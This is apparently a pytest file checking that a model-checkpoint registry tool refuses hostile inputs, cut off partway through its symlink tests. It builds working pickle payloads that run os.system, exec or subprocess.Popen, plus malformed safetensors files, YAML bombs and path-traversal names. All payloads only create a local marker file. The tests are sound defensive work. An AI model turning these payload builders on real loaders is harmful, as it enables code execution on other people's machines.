"""Hostile inputs (docs/architecture.md, Safety): nothing is executed, nothing is lost, nothing leaves the zoo.

Every payload is generated here at test time (no malicious binary is committed). A payload's only
effect, if it ever ran, would be to create a marker file under the test's own temp folder; each case
asserts the marker is absent. Unless the case says otherwise the contract is: exit status 1, an error
that names the input (and the fix), no traceback, nothing on stdout, and the zoo unchanged: workspace
files, ``git status``, the DVC cache, zoo's incoming area, and a canary folder outside the zoo.
Bad-input cases that are not hostile (unknown refs, slug rules, argparse usage, hand-edited invalid
tables, the basic truncated/garbage files) live in ``test_bad_input.py`` and are not repeated here.

Catalogue (case id -> expected outcome)
=======================================
Pickle payloads given to ``zoo add`` (no --convert): refused by content, never loaded
  pickle-zip-pt           torch.save zip ``.pt`` whose ``__reduce__`` calls os.system: "pickle-based ...
                          refused ... zoo add --convert", marker absent
  pickle-legacy-pth       legacy (non-zip) torch.save ``.pth``, payload builtins.exec: same
  pickle-bare-ckpt        bare pickle (protocol 2) named ``.ckpt``, payload subprocess.Popen: same
  pickle-proto0-bin       text pickle (protocol 0, no magic bytes) named ``.bin``: same (opcode sniffing)
  pickle-broken-ckpt      protocol-2 pickle cut after its REDUCE, garbage after (payload before the
                          break): same
  pickle-named-safetensors  a pickle named ``model.safetensors``: same (the extension is not trusted)
  pickle-hf-bin           ``pytorch_model.bin`` written by torch.save: same
  pickle-move             the same refused with ``--move``: the source file stays where it was
  payload-controls        control: each payload really does create its marker when unpickled
                          unsafely in a throw-away interpreter, so the cases above are not vacuous
``zoo add --convert`` (a fresh child interpreter, ``torch.load(weights_only=True)`` only)
  convert-zip-pt / convert-legacy-pth / convert-bare-ckpt / convert-broken-ckpt /
  convert-yaml-unsafe-load / convert-logging-dictconfig
                          the child refuses: error names the file and the blocked global
                          (posix.system, builtins.exec, subprocess.Popen, yaml.unsafe_load,
                          logging.config.dictConfig), "nothing was executed", and suggests no
                          --allow-global; marker absent; no converted temp left
  convert-env-force-unsafe  the same with TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1 in the environment
  convert-allow-denied    --allow-global of a name off the data-type allowlist (posix.system,
                          builtins.exec, subprocess.Popen, os.system, torch.hub.load, yaml.unsafe_load,
                          logging.config.dictConfig, builtins.getattr, copyreg._reconstructor,
                          collections.namedtuple), each with the payload that calls it: refused before
                          any child runs
  convert-torchscript     a TorchScript archive with --convert: refused ("TorchScript")
  convert-timeout         ZOO_CONVERT_TIMEOUT=0.5: the child is killed, "did not finish within", nothing
                          added, no temp left
  convert-needs-global    a Lightning-style checkpoint holding argparse.Namespace: refused, the error
                          names argparse.Namespace and suggests --allow-global
  (positive) convert-ok   zip and legacy state dicts convert; the row's source records the conversion
                          (source file, kind, its sha256, torch version, weights_only=True, allowed
                          globals); the tensors load back equal; re-running is a no-op; with
                          --allow-global argparse.Namespace the Lightning-style file converts and the
                          row records it
Hostile safetensors given to ``zoo add``
  st-header-huge          declared header length 99 MB on a tiny file: "header too large"
  st-header-u64max        declared header length 2**64-1: refused
  st-header-space-first   header ``  {...}`` (the safetensors library itself accepts it): "does not
                          start with '{'"
  st-overlap              two tensors with overlapping data_offsets: "invalid offset"
  st-reversed-offsets     begin > end: "invalid offset"
  st-shape-mismatch       shape that does not match its byte range: refused
  st-shape-overflow       shape [2**62, 2**62]: "overflow"
  st-trailing-bytes       a pickle payload appended after valid data (polyglot): "not fully covered"
  st-truncated-mid        header declares 1 MB, half the data present: "not fully covered"
  st-duplicate-key        the same tensor name twice in the JSON header: refused
  st-nan-json             NaN literal in the header JSON: "invalid JSON"
  st-deep-json            100,000 nested arrays in __metadata__ (parser stack attack): refused
  st-metadata-not-str     non-string __metadata__ values: refused
  special-file            /dev/zero as the checkpoint: refused at once ("no such file"), no hang
Integrity
  bitflip-kept-stat       one bit flipped in a pulled file, mtime and size restored: ``Zoo.fetch`` and
                          ``load_state_dict`` re-hash (the stamp includes ctime), restore it from the
                          cache and return the original tensors; ``zoo verify`` names the damage
Names (API, so that NUL can be passed): InvalidValueError naming --model, nothing written
  name-*                  ../x, /abs, a/b, a\\b, NUL, Cyrillic look-alike, fullwidth look-alike,
                          zero-width space, non-NFC, trailing newline, 65 and 10,000 characters, '.',
                          '..', '-rf'
Paths and symlinks: UnsafePathError/UnsafeFileError, the outside folder unchanged
  symlink-model-folder    zoo/checkpoints/gamma -> outside: ``zoo add --model gamma`` refused
  symlink-checkpoints-dir zoo/checkpoints -> outside copy: ``zoo add`` refused
  symlink-checkpoint-file a checkpoint file -> outside file: ``zoo verify`` and ``zoo pull`` refuse
  symlink-pointer         zoo/checkpoints/beta.dvc -> outside: ``zoo add`` refused (DVC would write
                          through it)
Text fields and YAML
  csv-formula-*           hand-edited description/source starting with = + - @: ``zoo ls --format csv``
                          refuses the table (line, column named), nothing exported; ``_csv_safe``
                          quotes every prefix and keeps plain numbers
  terminal-escape         an ANSI/OSC escape sequence in a hand-edited description: refused, and the
                          error shows it escaped (no raw ESC reaches the terminal)
  html-description        <script>, javascript:, attribute breakout in --description: accepted as text
                          and returned verbatim by CSV and JSON output (page escaping: test_site.py)
  metric-*                hand-edited reported_value nan / inf / -inf / -0.1, accuracy 1.5, epoch nan /
                          inf: ``zoo validate`` names line and column; ``--reported`` accuracy=-0.1,
                          nll=-1, accuracy=1.5 refused by ``zoo add``
  yaml-alias-bomb         billion laughs appended to a DVC pointer: ``zoo pull`` refuses within
                          seconds naming the pointer ("anchors/aliases"), memory capped at 4 GB
  yaml-bomb-dvc-yaml      the same in dvc.yaml: ``zoo add`` refuses naming dvc.yaml
  yaml-python-tag         ``!!python/object/apply:os.system`` in a pointer: refused, marker absent
  yaml-safe-only          no module or script of the project loads YAML unsafely (static scan)
Concurrency, kills, full disks
  concurrent-adds         three ``zoo add`` at once (two into one model folder): all land, rows and
                          the DVC pointer intact, ``dvc status`` clean, verify ok
  concurrent-duplicate    two ``zoo add`` of the same MODEL@STEP with other bytes at once: exactly one
                          lands, the other says "--replace"
  killed-add-{copy,placed,dvc,pointer}  kill -9 during the copy, after it, during ``dvc add``, after
                          the pointer is written: the table stays valid, re-running completes, verify
                          and ``dvc status`` are clean, the killed run's temp files are swept, never tracked
  killed-in-pointer-write  the state a kill inside DVC's in-place pointer rewrite leaves (pointer cut
                          short, zoo's journal, a replaced file's backup, a partial copy, all of a dead
                          process): the next add restores pointer and bytes, sweeps the rest, completes
  killed-pull-{transfer,cached,checkout}  kill -9 during the download, before and during checkout:
                          re-running completes, verify ok, no partial file left in the model folder
  disk-full-add           RLIMIT_FSIZE below the file: "file too large for the size limit", temp removed
  disk-full-add-move      the same with --move (the copy into the DVC cache fails): the source file is
                          back in place, pointer and cache unchanged
  disk-full-pull          during the download into the cache: clear error, no temp in the cache, a
                          rerun without the limit succeeds
  disk-full-checkout      during checkout: clear error, no partial file in the workspace
  disk-full-tmpfs         (root only) a real ENOSPC on a small tmpfs: "no space left on the device"
Secrets
  secret-scan             no committed or pending file holds an access key, secret key, private key or
                          token, and .dvc/config holds no credential option; the scanner finds a planted
                          fake key (so it is not vacuous)
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import re
import resource
import shutil
import struct
import subprocess
import sys
import time
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from conftest import PROJECT, ZOO_BIN, add_args, git, isolate, kill_when, register_arch, snapshot, write_safetensors

from checkpoint_zoo.errors import ZooError

BIG_FLOATS = 16_000_000  # the 64 MB test checkpoint: one float32 row of a bias-free linear layer (arch "big")

TABLE = "zoo/checkpoints.csv"
A10 = "zoo/checkpoints/alpha/step-00000010.safetensors"
INCOMING = ".dvc/tmp/zoo/incoming"


# ---- fixtures ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Templates:
    base: Path
    zoo: Path     # alpha@10, alpha@20, beta@5: committed and pushed to base/remote, all files present
    clone: Path   # a clone with no checkpoint bytes


ENV_KEYS = ("HOME", "XDG_CACHE_HOME", "ZOO_CACHE_DIR", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_NOSYSTEM",
            "DVC_NO_ANALYTICS", "ZOO_NO_PROGRESS")


@pytest.fixture(scope="module")
def templates(tmp_path_factory) -> Templates:
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.api import init

    base = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as mp:
        isolate(mp, base / "home")
        root = base / "zoo"
        init(root, remote_url=str(base / "remote"), registries_from=PROJECT)
        # bias-free linear layers whose one tensor ("weight") has the shapes of the big test files
        register_arch(root, "wide", in_features=1024, out_features=512, bias=False)
        register_arch(root, "big", in_features=BIG_FLOATS, out_features=1, bias=False)
        git("add", "conf", cwd=root)
        git("commit", "-qm", "empty zoo", cwd=root)
        with Zoo(root) as zoo:
            for model, step, seed in (("alpha", 10, 1), ("alpha", 20, 2), ("beta", 5, 3)):
                f = write_safetensors(base / "in" / f"{model}-{step}.safetensors", seed=seed)
                zoo.add(f, model=model, step=step, arch="linear", task="tabular-classification",
                        dataset="wine", license="MIT", description=f"{model} test")
            zoo.push()
        git("commit", "-qm", "add checkpoints", cwd=root)
        clone = base / "clone"
        subprocess.run(["git", "clone", "-q", str(root), str(clone)], check=True)
        shutil.rmtree(clone / ".dvc" / "cache", ignore_errors=True)
    return Templates(base, root, clone)


def _private_copy(src: Path, dst: Path, remote_from: Path, remote_to: Path) -> Path:
    """Copy a zoo and give it its own copy of the remote (tests push and corrupt freely)."""
    shutil.copytree(src, dst, symlinks=True)
    if not remote_to.exists():
        shutil.copytree(remote_from, remote_to)
    config = dst / ".dvc" / "config"
    config.write_text(config.read_text().replace(str(remote_from), str(remote_to)))
    return dst


@pytest.fixture
def zoo(templates, tmp_path) -> Path:
    return _private_copy(templates.zoo, tmp_path / "z", templates.base / "remote", tmp_path / "remote")


@pytest.fixture
def clone(templates, tmp_path) -> Path:
    return _private_copy(templates.clone, tmp_path / "c", templates.base / "remote", tmp_path / "remote")


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder outside the zoo with a canary file; every test checks it is left exactly as it was."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "canary.txt").write_text("do not touch\n")
    return folder


@pytest.fixture
def marker(tmp_path) -> Path:
    return tmp_path / "PWNED"


# ---- helpers ------------------------------------------------------------------------------------------


@dataclass
class Result:
    code: int
    out: str
    err: str
    seconds: float


def _limits(fsize: int | None = None, address_space: int | None = None):
    def apply() -> None:
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
        if address_space is not None:
            resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))
    return apply if fsize is not None or address_space is not None else None


def zoo_run(root: Path, *args: str, env: dict[str, str] | None = None, fsize: int | None = None,
            address_space: int | None = None, timeout: float = 180) -> Result:
    """Run the real `zoo` entry point (optionally under RLIMIT_FSIZE / RLIMIT_AS)."""
    t = time.monotonic()
    proc = subprocess.run([str(ZOO_BIN), *args], cwd=root, capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})}, preexec_fn=_limits(fsize, address_space))
    return Result(proc.returncode, proc.stdout, proc.stderr, time.monotonic() - t)


def listing(folder: Path) -> list[str]:
    if not folder.exists():
        return []
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() or p.is_symlink())


def disk_state(root: Path, outside: Path | None = None) -> dict[str, object]:
    """Everything a refused command must leave alone."""
    state = {
        "files": snapshot(root),
        "git status": git("status", "--porcelain", "--untracked-files=all", cwd=root),
        "dvc cache": listing(root / ".dvc" / "cache"),
        "incoming": listing(root / INCOMING),
    }
    if outside is not None:
        state["outside"] = {p: (outside / p).read_bytes() for p in listing(outside) if (outside / p).is_file()}
    return state


def changed(before: dict, after: dict) -> str:
    out = []
    for key in before:
        if before[key] == after[key]:
            continue
        if key in ("files", "outside"):
            b, a = before[key], after[key]
            out.append(f"{key}: added {sorted(set(a) - set(b))}, removed {sorted(set(b) - set(a))}, "
                       f"changed {sorted(k for k in set(a) & set(b) if a[k] != b[k])}")
        else:
            out.append(f"{key}: {before[key]!r} -> {after[key]!r}")
    return "; ".join(out)


def refused(root: Path, *args: str, names: tuple[str, ...] = (), code: int = 1, env: dict[str, str] | None = None,
            marker: Path | None = None, outside: Path | None = None, fsize: int | None = None,
            check_cache: bool = True, timeout: float = 180) -> Result:
    """Run ``zoo *args`` and check the refusal contract; returns the result."""
    before = disk_state(root, outside)
    r = zoo_run(root, *args, env=env, fsize=fsize, timeout=timeout)
    after = disk_state(root, outside)
    shown = f"zoo {' '.join(map(repr, args))}\nexit {r.code}\nstdout: {r.out!r}\nstderr: {r.err!r}"
    assert r.code == code, f"expected exit {code}\n{shown}"
    assert "Traceback" not in r.err and "unexpected" not in r.err, shown
    lines = [l for l in r.err.splitlines() if l.strip()]
    assert lines, shown
    missing = [n for n in names if n not in r.err]
    assert not missing, f"error does not name {missing}\n{shown}"
    assert r.out == "", f"nothing should go to stdout on error\n{shown}"
    if marker is not None:
        assert not marker.exists(), f"the payload ran: {marker} exists\n{shown}"
    if not check_cache:
        before.pop("dvc cache"), after.pop("dvc cache")
    assert after == before, f"disk changed: {changed(before, after)}\n{shown}"
    return r


def st_bytes(header: bytes, data: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + data


def edit_cell(root: Path, line: int, column: str, value: str) -> None:
    """Change one cell of zoo/checkpoints.csv by hand (1-based file line)."""
    import csv

    path = root / TABLE
    rows = list(csv.reader(io.StringIO(path.read_text(), newline="")))
    rows[line - 1][rows[0].index(column)] = value
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue())


# ---- payloads (generated here; their only effect would be creating the marker) --------------------------


class Payload:
    """Unpickling this object would run ``how`` to create ``marker``."""

    def __init__(self, how: str, marker: Path) -> None:
        self.how, self.marker = how, str(marker)

    def __reduce__(self):
        if self.how == "system":
            return (os.system, (f"touch '{self.marker}'",))
        if self.how == "exec":
            return (exec, (f"open({self.marker!r}, 'w').close()",))
        if self.how == "popen":
            return (subprocess.Popen, (["touch", self.marker],))
        if self.how == "yaml":
            import yaml

            return (yaml.unsafe_load, (f"!!python/object/apply:os.system ['touch {self.marker}']",))
        if self.how == "logging":
            import logging.config

            return (logging.config.dictConfig, ({"version": 1, "handlers": {"h": {
                "()": "subprocess.call", "args": ["touch", self.marker]}}},))
        raise ValueError(self.how)


def _tensors():
    import torch

    # the shapes of conf/arch/linear.yaml (wine's 13 features, 3 classes)
    return {"fc.weight": torch.arange(39, dtype=torch.float32).reshape(3, 13), "fc.bias": torch.ones(3),
            "norm.mean": torch.zeros(13), "norm.std": torch.ones(13)}


def make_zip_pt(path: Path, marker: Path, how: str = "system") -> Path:
    import torch

    torch.save({**_tensors(), "extra": Payload(how, marker)}, path)
    return path


def make_legacy_pth(path: Path, marker: Path, how: str = "exec") -> Path:
    import torch

    torch.save({**_tensors(), "extra": Payload(how, marker)}, path, _use_new_zipfile_serialization=False)
    return path


def make_bare(path: Path, marker: Path, how: str = "popen", protocol: int = 2) -> Path:
    path.write_bytes(pickle.dumps({"state_dict": Payload(how, marker)}, protocol=protocol))
    return path


def make_broken(path: Path, marker: Path, how: str = "system") -> Path:
    import pickletools

    data = pickletools.optimize(pickle.dumps(Payload(how, marker), protocol=2))
    assert data.endswith(b"R.")  # ... REDUCE STOP: keep the REDUCE, break what follows
    path.write_bytes(data[:-1] + b"\xff\xfe this is where the pickle breaks")
    return path


PICKLE_CASES = {
    "pickle-zip-pt": (lambda d, m: make_zip_pt(d / "model.pt", m), "system"),
    "pickle-legacy-pth": (lambda d, m: make_legacy_pth(d / "model.pth", m), "exec"),
    "pickle-bare-ckpt": (lambda d, m: make_bare(d / "model.ckpt", m), "popen"),
    "pickle-proto0-bin": (lambda d, m: make_bare(d / "model.bin", m, "system", protocol=0), "system"),
    "pickle-broken-ckpt": (lambda d, m: make_broken(d / "broken.ckpt", m), "system"),
    "pickle-named-safetensors": (lambda d, m: make_bare(d / "model.safetensors", m, "exec"), "exec"),
    "pickle-hf-bin": (lambda d, m: make_zip_pt(d / "pytorch_model.bin", m, "popen"), "popen"),
}


def _inputs(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    return folder


# ---- pickle payloads without --convert ------------------------------------------------------------------


@pytest.mark.parametrize("case", list(PICKLE_CASES))
def test_pickle_payload_refused_by_content(zoo, tmp_path, marker, outside, case):
    src = PICKLE_CASES[case][0](_inputs(tmp_path), marker)
    data = src.read_bytes()
    refused(zoo, *add_args(src), names=(str(src), "pickle", "--convert"), marker=marker, outside=outside)
    assert src.read_bytes() == data


def test_pickle_payload_refused_with_move_stays_in_place(zoo, tmp_path, marker, outside):
    src = make_zip_pt(_inputs(tmp_path) / "model.pt", marker)
    data = src.read_bytes()
    refused(zoo, *add_args(src, "gamma", "1", "--move"), names=(str(src), "--convert"), marker=marker, outside=outside)
    assert src.read_bytes() == data


def test_payloads_are_live_controls(tmp_path, marker):
    """The payloads do run when unpickled unsafely (in a throw-away interpreter), so the refusals above
    are not passing by accident."""
    folder = _inputs(tmp_path)
    for name, (make, _how) in PICKLE_CASES.items():
        if name in ("pickle-zip-pt", "pickle-legacy-pth", "pickle-hf-bin"):
            continue  # torch files: one torch control below is enough (torch imports take seconds)
        src = make(folder, marker)
        code = ("import pickle, sys, time\n"
                "try:\n    pickle.load(open(sys.argv[1], 'rb'))\nexcept Exception:\n    pass\n"
                "time.sleep(0.2)\n")  # Popen/system may finish after load returns
        subprocess.run([sys.executable, "-c", code, str(src)], check=True, timeout=60)
        assert marker.exists(), f"{name}: the control payload did not fire"
        marker.unlink()
    src = make_zip_pt(folder / "control.pt", marker)
    subprocess.run([sys.executable, "-c", "import sys, torch; torch.load(sys.argv[1], weights_only=False)", str(src)],
                   check=True, timeout=120, capture_output=True)
    assert marker.exists(), "torch.load(weights_only=False) control did not fire"


# ---- zoo add --convert -----------------------------------------------------------------------------------

CONVERT_CASES = {
    "convert-zip-pt": (lambda d, m: make_zip_pt(d / "model.pt", m), "posix.system"),
    "convert-legacy-pth": (lambda d, m: make_legacy_pth(d / "model.pth", m), "builtins.exec"),
    "convert-bare-ckpt": (lambda d, m: make_bare(d / "model.ckpt", m), "subprocess.Popen"),
    "convert-broken-ckpt": (lambda d, m: make_broken(d / "broken.ckpt", m), "posix.system"),
    "convert-yaml-unsafe-load": (lambda d, m: make_zip_pt(d / "model.pt", m, "yaml"), "yaml.unsafe_load"),
    "convert-logging-dictconfig": (lambda d, m: make_bare(d / "model.ckpt", m, "logging"), "logging.config.dictConfig"),
}


@pytest.mark.parametrize("case", list(CONVERT_CASES))
def test_convert_refuses_payload_in_child(zoo, tmp_path, marker, outside, case):
    make, blocked = CONVERT_CASES[case]
    src = make(_inputs(tmp_path), marker)
    r = refused(zoo, *add_args(src, "gamma", "1", "--convert"), marker=marker, outside=outside,
                names=(str(src), "weights_only=True", blocked, "nothing was executed", "nothing was added"))
    assert "--allow-global" not in r.err  # never suggest allowing a code-running global


def test_convert_ignores_force_no_weights_only_env(zoo, tmp_path, marker, outside):
    src = make_zip_pt(_inputs(tmp_path) / "model.pt", marker)
    refused(zoo, *add_args(src, "gamma", "1", "--convert"), env={"TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": "1"},
            names=(str(src), "posix.system", "nothing was executed"), marker=marker, outside=outside)


# each with the payload that calls it; an allowlist refuses names from harmless-looking modules too
ALLOW_GLOBAL_CASES = {"posix.system": "system", "builtins.exec": "exec", "subprocess.Popen": "popen",
                      "os.system": "system", "torch.hub.load": "system", "yaml.unsafe_load": "yaml",
                      "logging.config.dictConfig": "logging", "builtins.getattr": "system",
                      "copyreg._reconstructor": "system", "collections.namedtuple": "system"}


@pytest.mark.parametrize("name", list(ALLOW_GLOBAL_CASES))
def test_convert_never_allows_code_running_globals(zoo, tmp_path, marker, outside, name):
    src = make_zip_pt(_inputs(tmp_path) / "model.pt", marker, ALLOW_GLOBAL_CASES[name])
    r = refused(zoo, *add_args(src, "gamma", "1", "--convert", "--allow-global", name),
                names=("--allow-global", repr(name), "not one of the data types", "never allows"),
                marker=marker, outside=outside)
    assert r.seconds < 15  # refused before any child was started


def test_convert_refuses_torchscript(zoo, tmp_path, outside):
    import warnings

    import torch

    src = _inputs(tmp_path) / "scripted.pt"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(torch.nn.Linear(4, 3)).save(str(src))
    refused(zoo, *add_args(src, "gamma", "1", "--convert"), names=(str(src), "TorchScript"), outside=outside)


def test_convert_timeout_kills_child_and_leaves_nothing(zoo, tmp_path, outside):
    import torch

    src = _inputs(tmp_path) / "ok.pt"
    torch.save(_tensors(), src)
    refused(zoo, *add_args(src, "gamma", "1", "--convert"), env={"ZOO_CONVERT_TIMEOUT": "0.3"},
            names=(str(src), "did not finish within 0.3 s", "ZOO_CONVERT_TIMEOUT"), outside=outside)


def _lightning(path: Path) -> Path:
    import argparse

    import torch

    torch.save({"state_dict": _tensors(), "epoch": 3, "hparams": argparse.Namespace(lr=0.1)}, path)
    return path


def test_convert_names_the_global_it_needs(zoo, tmp_path, outside):
    src = _lightning(_inputs(tmp_path) / "lightning.ckpt")
    refused(zoo, *add_args(src, "gamma", "1", "--convert"), outside=outside,
            names=(str(src), "argparse.Namespace", "--allow-global argparse.Namespace"))


def _row(root: Path, ref: str) -> dict[str, str]:
    import csv

    model, step = ref.split("@")
    rows = list(csv.DictReader(io.StringIO((root / TABLE).read_text())))
    found = [r for r in rows if r["model"] == model and r["step"] == step]
    assert len(found) == 1, (ref, rows)
    return found[0]


def test_convert_ok_records_provenance(zoo, tmp_path):
    import torch
    from safetensors.torch import load_file

    folder = _inputs(tmp_path)
    zipped = folder / "model.pt"
    torch.save(_tensors(), zipped)
    legacy = folder / "model.pth"
    torch.save(_tensors(), legacy, _use_new_zipfile_serialization=False)
    for src, step, kind in ((zipped, "1", "torch-zip"), (legacy, "2", "pickle")):
        r = zoo_run(zoo, *add_args(src, "gamma", step, "--convert", "--source", "train.py @ abc"))
        assert r.code == 0, r.err
        assert f"converted {src.name} ({kind})" in r.out and "weights_only=True" in r.out
        row = _row(zoo, f"gamma@{step}")
        assert row["format"] == "safetensors" and row["num_params"] == "68"
        digest = hashlib.sha256(src.read_bytes()).hexdigest()
        assert row["source"].startswith("train.py @ abc; converted from " + src.name), row["source"]
        for part in (kind, digest, "torch.load(weights_only=True)", "allow-global: none", torch.__version__):
            assert part in row["source"], (part, row["source"])
        stored = load_file(str(zoo / row["path"]))
        assert set(stored) == set(_tensors()) and all(torch.equal(stored[k], v) for k, v in _tensors().items())
    again = zoo_run(zoo, *add_args(zipped, "gamma", "1", "--convert", "--source", "train.py @ abc"))
    assert again.code == 0 and "nothing to do" in again.out, again
    assert listing(zoo / INCOMING) == []
    assert zoo_run(zoo, "verify", "gamma@1", "gamma@2").code == 0

    src = _lightning(folder / "lightning.ckpt")
    r = zoo_run(zoo, *add_args(src, "gamma", "3", "--convert", "--allow-global", "argparse.Namespace"))
    assert r.code == 0, r.err
    assert "from key 'state_dict'" in r.out and "left out epoch, hparams" in r.out, r.out
    row = _row(zoo, "gamma@3")
    assert "allow-global: argparse.Namespace" in row["source"] and "key 'state_dict'" in row["source"], row["source"]
    assert row["source"].startswith("zoo add lightning.ckpt; converted from lightning.ckpt")


# ---- hostile safetensors -----------------------------------------------------------------------------------

_A = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}


def _st(header: dict | bytes, data: bytes) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return st_bytes(raw, data)


SAFETENSORS_CASES = {
    "st-header-huge": (struct.pack("<Q", 99 * 1024 * 1024) + b'{"a":1}' + bytes(64), ("header too large",)),
    "st-header-u64max": (struct.pack("<Q", 2**64 - 1) + b"{}" + bytes(64), ("header",)),
    "st-header-space-first": (st_bytes(b"  " + json.dumps({"a": _A}).encode(), bytes(16)), ("does not start with '{'",)),
    "st-overlap": (_st({"a": _A, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24)),
                   ("invalid offset",)),
    "st-reversed-offsets": (_st({"a": {"dtype": "F32", "shape": [0], "data_offsets": [16, 0]}}, bytes(16)),
                            ("invalid offset",)),
    "st-shape-mismatch": (_st({"a": {"dtype": "F32", "shape": [5], "data_offsets": [0, 16]}}, bytes(16)), ("shape",)),
    "st-shape-overflow": (_st({"a": {"dtype": "F32", "shape": [2**62, 2**62], "data_offsets": [0, 16]}}, bytes(16)),
                          ("overflow",)),
    "st-trailing-bytes": (_st({"a": _A}, bytes(16)) + pickle.dumps(("payload",), protocol=2), ("not fully covered",)),
    "st-truncated-mid": (_st({"a": {"dtype": "F32", "shape": [262144], "data_offsets": [0, 1048576]}}, bytes(524288)),
                         ("not fully covered",)),
    "st-duplicate-key": (st_bytes(b'{"a":' + json.dumps(_A).encode() + b',"a":'
                                  + json.dumps({**_A, "data_offsets": [16, 32]}).encode() + b"}", bytes(32)), ("offset",)),
    "st-nan-json": (st_bytes(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,16]}}', bytes(16)), ("invalid JSON",)),
    "st-deep-json": (st_bytes(b'{"__metadata__":' + b"[" * 100_000 + b"]" * 100_000 + b"}"), ("invalid JSON",)),
    "st-metadata-not-str": (_st({"__metadata__": {"x": 1}, "a": _A}, bytes(16)), ("invalid JSON",)),
}


@pytest.mark.parametrize("case", list(SAFETENSORS_CASES))
def test_hostile_safetensors_refused(zoo, tmp_path, outside, case):
    data, names = SAFETENSORS_CASES[case]
    src = _inputs(tmp_path) / "model.safetensors"
    src.write_bytes(data)
    refused(zoo, *add_args(src), names=(str(src), "safetensors", *names), outside=outside, timeout=60)
    assert src.read_bytes() == data


def test_special_file_refused_without_hanging(zoo, outside):
    r = refused(zoo, *add_args("/dev/zero"), names=("/dev/zero",), outside=outside, timeout=30)
    assert r.seconds < 10


# ---- integrity ----------------------------------------------------------------------------------------------


def test_bitflip_with_restored_stat_is_never_handed_over(clone, monkeypatch):
    from safetensors.numpy import load_file

    from checkpoint_zoo import Zoo

    monkeypatch.chdir(clone)
    with Zoo(clone) as z:
        path = z.fetch("alpha@10")  # pulled, verified, stamped
        good = path.read_bytes()
        expected = load_file(str(path))
    st = path.stat()
    bad = bytearray(good)
    bad[len(bad) - 5] ^= 0x10  # one bit of the tensor data
    with open(path, "r+b") as f:  # in place: same inode, same size
        f.write(bytes(bad))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))  # and the old mtime
    after = path.stat()
    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (st.st_ino, st.st_size, st.st_mtime_ns)

    with Zoo(clone) as z:
        tensors = z.load_state_dict("alpha@10")
    assert {k: v.tolist() for k, v in tensors.items()} == {k: v.tolist() for k, v in expected.items()}
    assert path.read_bytes() == good, "the damaged file was handed over instead of being restored"

    with open(path, "r+b") as f:  # damage it again; verify must name it
        f.write(bytes(bad))
    r = zoo_run(clone, "verify", "alpha@10")
    assert r.code == 1 and A10 in r.out + r.err and "mismatch" in r.out + r.err, r


# ---- names ---------------------------------------------------------------------------------------------------

BAD_NAMES = {
    "dotdot-slash": "../x", "absolute": "/abs", "slash": "a/b", "backslash": "a\\b", "nul": "a\x00b",
    "cyrillic-lookalike": "\u0430lpha", "fullwidth-lookalike": "\uff41lpha", "zero-width-space": "al\u200bpha",
    "non-nfc": unicodedata.normalize("NFD", "caf\u00e9"), "trailing-newline": "alpha\n", "65-chars": "a" * 65,
    "10000-chars": "a" * 10_000, "dot": ".", "dotdot": "..", "dash-rf": "-rf",
}


@pytest.mark.parametrize("name", list(BAD_NAMES.values()), ids=list(BAD_NAMES))
def test_bad_model_name_refused_before_any_write(zoo, tmp_path, outside, monkeypatch, name):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import InvalidValueError

    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
    before = disk_state(zoo, outside)
    with Zoo(zoo) as z:
        with pytest.raises(InvalidValueError) as exc:
            z.add(src, model=name, step=1, arch="linear", task="tabular-classification", dataset="wine", license="MIT")
    assert "--model" in str(exc.value) and repr(name)[:60] in str(exc.value)
    assert disk_state(zoo, outside) == before
    assert not (tmp_path / "x").exists() and not Path("/abs").exists()


# ---- paths and symlinks ------------------------------------------------------------------------------------------


def test_symlinked_model_folder_refused(zoo, tmp_path, outside):
    (zoo / "zoo/checkpoints/gamma").symlink_to(outside, target_is_directory=True)
    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
    refused(zoo, *add_args(src, "gamma"), names=("zoo/checkpoints/gamma", "outside"), outside=outside)


def test_symlinked_checkpoints_folder_refused(zoo, tmp_path, outside):
    real = zoo / "zoo/checkpoints"
    shutil.copytree(real, outside / "checkpoints", symlinks=True)
    shutil.rmtree(real)
    real.symlink_to(outside / "checkpoints", target_is_directory=True)
    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
    refused(zoo, *add_args(src, "alpha", "30"), names=("zoo/checkpoints", "symlink"), outside=outside)


def test_symlinked_checkpoint_file_refused(zoo, outside):
    target = zoo / A10
    (outside / "secret.bin").write_bytes(b"secret")
    target.unlink()
    target.symlink_to(outside / "secret.bin")
    refused(zoo, "verify", "alpha@10", names=(A10, "outside"), outside=outside)
    refused(zoo, "pull", "alpha@10", names=(A10, "outside"), outside=outside)


def test_symlinked_pointer_refused(zoo, tmp_path, outside):
    pointer = zoo / "zoo/checkpoints/beta.dvc"
    shutil.copy(pointer, outside / "victim.dvc")
    pointer.unlink()
    pointer.symlink_to(outside / "victim.dvc")
    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
